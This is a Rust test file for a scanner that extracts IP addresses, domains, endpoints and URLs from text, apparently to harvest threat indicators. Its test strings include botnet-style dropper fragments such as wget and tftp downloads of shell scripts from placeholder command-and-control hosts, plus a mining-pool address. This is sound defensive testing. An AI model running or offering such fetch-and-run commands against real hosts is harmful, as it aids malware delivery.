//! What is believed and what is not, by example.

use super::super::{Finds, Source, scan_text};
use crate::kind::Language;

/// Values found in `text`, in order, as `kind value`.
fn found(text: &str, language: Option<Language>) -> Vec<String> {
    let mut finds = Finds::new(100);
    scan_text(text.as_bytes(), &Source::plain(0, language), &mut finds);
    finds.list.iter().map(|it| format!("{} {}", it.observable.kind, it.observable.value)).collect()
}

fn check(text: &str, expected: &[&str]) {
    assert_eq!(found(text, None), expected, "{text}");
}

#[test]
fn addresses_are_found() {
    check("192.0.2.1", &["ip 192.0.2.1"]);
    check("POST to 192.0.2.1.", &["ip 192.0.2.1"]);
    check("tftp -g -r x 192.0.2.1; done", &["ip 192.0.2.1"]);
    check("wget 192.0.2.1/bins.sh", &["ip 192.0.2.1"]);
    check("192.0.2.1:23", &["endpoint 192.0.2.1:23", "ip 192.0.2.1"]);
    check("(198.51.100.7:65535)", &["endpoint 198.51.100.7:65535", "ip 198.51.100.7"]);
    check("192.0.2.1:65536", &["ip 192.0.2.1"]);
    check("[2001:db8::1]:23", &["endpoint [2001:db8::1]:23", "ip 2001:db8::1"]);
    check("to 2001:db8:0:0:0:0:0:7 ok", &["ip 2001:db8::7"]);
}

#[test]
fn addresses_of_nobody_are_not() {
    for text in [
        "0.0.0.0",
        "127.0.0.1",
        "255.255.255.0",
        "239.255.255.250",
        "10.1.2.300",
        "1.2.3",
        "1.2.3.4.5",
        "01.2.3.4",
        "::1",
        "ff02::1",
        "std::abc::def",
        "12:34:56:78",
        "00:11:22:33:44:55",
        "a::b",
        "2001:db8::/32",
    ] {
        check(text, &[]);
    }
}

#[test]
fn versions_and_prefixes_are_no_addresses() {
    for text in [
        "Version 1.2.3.4",
        "version: 8.2.1.4",
        "v1.2.3.4",
        "ver=\"5.4.2.0\"",
        "rv:1.9.2.3",
        "Mozilla/5.0 Chrome/41.0.2228.0 Safari",
        "firmware 5.1.0.17",
        "libfoo-1.2.3.4",
        "libfoo.so.1.2.3.4",
        "2.5.29.17",
        "2.5.4.3",
        "192.0.2.0/24",
        "1.3.6.1.4.1",
        "FileVersion 6.1.7600.16385",
    ] {
        check(text, &[]);
    }
    // Even then a port settles it.
    check("v 8.2.1.4:443", &["endpoint 8.2.1.4:443", "ip 8.2.1.4"]);
}

#[test]
fn names_are_found() {
    check("cnc.botnet.example", &["domain cnc.botnet.example"]);
    check("CNC.BOTNET.EXAMPLE", &["domain cnc.botnet.example"]);
    check("ping evil.com", &["domain evil.com"]);
    check("a.evil.co.uk.", &["domain a.evil.co.uk"]);
    check("evil.com/bins/x", &["domain evil.com"]);
    check("tc.cn", &["domain tc.cn"]);
    check("c2.test:443", &["endpoint c2.test:443", "domain c2.test"]);
    check("dns.geek", &["domain dns.geek"]);
    check("xn--80ak6aa92e.com", &["domain xn--80ak6aa92e.com"]);
    check("163.com", &["domain 163.com"]);
    check("expyuzz4wqqyqhjn.onion", &["domain expyuzz4wqqyqhjn.onion"]);
}

#[test]
fn file_names_are_no_names() {
    for text in [
        "libc.so.6",
        "libc.so",
        "ld-linux.so.2",
        "ld-uClibc.so.0",
        "libcrypto.so.1.1",
        "main.cc",
        "foo.sh",
        "test.pl",
        "README.md",
        "a.py",
        "eh_alloc.cc",
        "resolv.conf",
        "/etc/rc.local",
        "crtstuff.c",
        "x.zip",
        "/tmp/evil.com",
        "C:\\evil.com",
        ".data.rel.ro",
        ".rela.dyn",
        "libgcc.a",
        "index.html",
        "../../../../libgcc/config/arm/lib1funcs.S",
        "busybox.pid",
        "install.sh;",
        "./bins.sh",
    ] {
        check(text, &[]);
    }
    // An ending of files is believed with a port, or as a whole string of three labels.
    check("botnet.cc:23", &["endpoint botnet.cc:23", "domain botnet.cc"]);
    check("cnc.botnet.cc", &["domain cnc.botnet.cc"]);
    check("x cnc.botnet.cc", &[]);
}

#[test]
fn code_is_no_name() {
    for text in [
        "console.info(1)",
        "org.gnome.design",
        "runtime.link",
        "com.android.app",
        "e.g.",
        "i.e. x",
        "GLIBC_2.2.5",
        "sync.(*Mutex).now",
        "user@evil.com",
        "$HOST.evil.com",
        "%s.evil.com",
        "co.uk",
        "com",
        "x..com",
        "-a.com",
        "abcdefghijklmnop.onion1",
        "short.onion",
        "Node.Next",
        "std.io:",
        "evil.invalidtld",
        "done.In the end",
    ] {
        check(text, &[]);
    }
    let code = Some(Language::Code);
    assert!(found("x = evil.com;", code).is_empty());
    assert_eq!(found("x = \"evil.com\";", code), ["domain evil.com"]);
}

#[test]
fn references_are_no_names() {
    for text in [
        "http://www.w3.org/2000/svg",
        "http://schemas.xmlsoap.org/soap/envelope/",
        "https://www.gnu.org/licenses/",
        "http://upx.sf.net",
        "www.openssl.org",
        "http://purenetworks.com/HNAP1/",
        "github.com",
    ] {
        check(text, &[]);
    }
    check("https://github.com/a/b", &["url https://github.com/a/b"]);
}

#[test]
fn urls_are_found_with_their_hosts() {
    check("http://192.0.2.1/a", &["url http://192.0.2.1/a", "ip 192.0.2.1"]);
    check(
        "wget http://c2.example:8080/x.sh; chmod",
        &["url http://c2.example:8080/x.sh", "endpoint c2.example:8080", "domain c2.example"],
    );
    check("'tftp://192.0.2.1/x'", &["url tftp://192.0.2.1/x", "ip 192.0.2.1"]);
    check("see http://c2.example/a.", &["url http://c2.example/a", "domain c2.example"]);
    check("(http://c2.example/a)", &["url http://c2.example/a", "domain c2.example"]);
    check("xhttp://c2.example/", &["url http://c2.example/", "domain c2.example"]);
    check("set a=http://c2.example/a&&set b=c", &["url http://c2.example/a", "domain c2.example"]);
    check("(script:http://c2.example/a).Exec()", &["url http://c2.example/a", "domain c2.example"]);
    check("http://c2.example/a(b)c", &["url http://c2.example/a(b)c", "domain c2.example"]);
    check(
        "http://192.0.2.1/a@http://192.0.2.2/b",
        &["url http://192.0.2.1/a", "ip 192.0.2.1", "url http://192.0.2.2/b", "ip 192.0.2.2"],
    );
    check("HTTP://C2.EXAMPLE/A", &["url http://c2.example/A", "domain c2.example"]);
    check("http://u:p@c2.example/", &["url http://u:p@c2.example/", "domain c2.example"]);
    check(
        "stratum+tcp://pool.example:3333",
        &["endpoint pool.example:3333", "domain pool.example"],
    );
    // What is kept is what feeds can carry.
    check("http://c2.example./a#top", &["url http://c2.example/a", "domain c2.example"]);
    check("ldap://192.0.2.1/a", &["endpoint 192.0.2.1:389", "ip 192.0.2.1"]);
    check("socks5://c2.example:9050", &["endpoint c2.example:9050", "domain c2.example"]);
    check(
        "http://[2001:db8::5]:81/x",
        &["url http://[2001:db8::5]:81/x", "endpoint [2001:db8::5]:81", "ip 2001:db8::5"],
    );
}

#[test]
fn templates_give_their_host_only() {
    check("http://192.0.2.1/%s", &["ip 192.0.2.1"]);
    check("http://192.0.2.1/$i;", &["ip 192.0.2.1"]);
    check("http://c2.example/a%20b", &["url http://c2.example/a%20b", "domain c2.example"]);
    check("http://%s/x.sh", &[]);
    check("http://$host.example/", &[]);
    check("http://localhost/x http://127.0.0.1/y http://router/", &[]);
    check("://evil foo://evil.com/x", &[]);
}
